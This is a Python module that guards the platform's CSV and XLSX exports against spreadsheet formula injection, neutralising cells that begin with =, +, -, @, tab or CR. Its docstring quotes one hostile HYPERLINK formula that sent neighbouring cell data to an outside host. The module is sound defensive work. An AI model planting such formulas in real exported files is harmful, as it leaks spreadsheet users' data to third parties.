"""Cells of the files the platform writes for people (CSV, XLSX): nothing a spreadsheet would run as a formula.

A cell starting with `=`, `+`, `-`, `@`, tab or CR is taken by Excel, WPS and LibreOffice as a formula
(OWASP, "CSV injection"): `=HYPERLINK("http://x/?"&A2,"点此")` in an uploaded row came back from the
rejected-rows report as a live link sending the row's neighbours away. Every CSV and XLSX writer goes
through this module:

- CSV has no cell types, so such a text gets a leading apostrophe, which spreadsheets read as "this is text"
  and do not show (OWASP's advice). Anyone reading the CSV as data sees the apostrophe.
- XLSX has types: the text is stored as a string cell, never a formula, with Excel's own quote-prefix style
  (what Excel does for a typed `'=1+1`), so it shows exactly as it was and stays text when someone edits it.

Numbers stay numbers: a Python number is written as a number (negative numbers in numeric XLSX cells too),
and a text that is a plain decimal number ("-12.5") is left as it is, since a spreadsheet reads it as that
number and no formula can hide in it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any, TextIO

from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)\Z")


def is_formula_like(value: str) -> bool:
    """A text that a spreadsheet would evaluate (or try to) instead of showing it."""
    return value.startswith(TRIGGERS) and _PLAIN_NUMBER.match(value) is None


def neutral(value: Any) -> Any:
    """The value as a CSV cell: formula-like texts with the apostrophe in front, everything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


class CsvWriter:
    """`csv.writer` whose rows are neutralised cell by cell."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([neutral(v) for v in values])


def csv_writer(out: TextIO) -> CsvWriter:
    return CsvWriter(out)


def csv_line(values: Iterable[Any]) -> str:
    """One CSV line (with its line end), neutralised."""
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(values)
    return buffer.getvalue()


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append a row to an XLSX sheet; formula-like texts become quote-prefixed string cells, never formulas."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and is_formula_like(cell.value):
            cell.data_type = "s"  # openpyxl made "=..." a formula cell
            cell.quotePrefix = True
